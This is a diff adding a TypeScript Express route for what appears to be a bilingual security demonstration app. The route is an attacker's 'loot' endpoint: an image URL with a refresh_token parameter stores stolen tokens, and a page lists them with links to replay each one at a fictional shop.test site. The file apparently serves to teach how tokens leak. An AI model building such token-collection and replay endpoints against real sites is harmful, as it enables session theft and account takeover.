@@ -1,0 +1,42 @@
+import type { Router } from 'express'
+import type { Text } from '@shared/language.ts'
+import { sendAnswer, type Answer } from '../../answers/answer.ts'
+import { visitOf } from '../../network/visit.ts'
+import { html } from '../../pages/html.ts'
+import { page, type PageFrame } from '../../pages/page.ts'
+import type { LootStore } from '../../stores/loot.ts'
+import { frameOf } from '../frame.ts'
+
+const words = {
+  title: { en: 'The thief’s list', ko: '도둑의 목록' },
+  said: {
+    en: 'A script on another page can send here what it can read: a picture’s address is enough.',
+    ko: '다른 페이지의 스크립트는 읽을 수 있는 것을 이리로 보낼 수 있습니다. 그림 주소 하나면 됩니다.',
+  },
+  nothing: { en: 'Nothing has come yet.', ko: '아직 들어온 것이 없습니다.' },
+  use: { en: 'Take it to the shop', ko: '가게로 가져가기' },
+} satisfies Record<string, Text>
+
+/** `/loot`: where stolen tokens arrive. `/loot.svg?refresh_token=…` takes one; any page may show a picture of any site. */
+export function addLoot(router: Router, loot: LootStore): void {
+  router.get('/loot.svg', (request, response) => {
+    const token = new URL(visitOf(request).url).searchParams.get('refresh_token') ?? ''
+    if (token !== '') loot.keep(token.slice(0, 200))
+    sendAnswer(response, { status: 204, headers: [['Cache-Control', 'no-store']], body: '' })
+  })
+  router.get('/loot', (request, response) => sendAnswer(response, lootPage(frameOf(request), loot.list())))
+}
+
+function lootPage(frame: PageFrame, tokens: readonly string[]): Answer {
+  const say = (key: keyof typeof words): string => words[key][frame.language]
+  const body = html`<p>${say('said')}</p>
+    ${tokens.length === 0 ? html`<p class="quiet">${say('nothing')}</p>` : null}
+    ${tokens.map((token, index) => {
+      const name = index === 0 ? 'use-loot' : `use-loot-${index + 1}`
+      return html`<div class="card">
+        <p><code>${token}</code></p>
+        <p><a id="${name}" href="https://shop.test/refresh/#refresh_token=${encodeURIComponent(token)}">${say('use')}</a></p>
+      </div>`
+    })}`
+  return page(200, frame, { title: say('title'), body })
+}
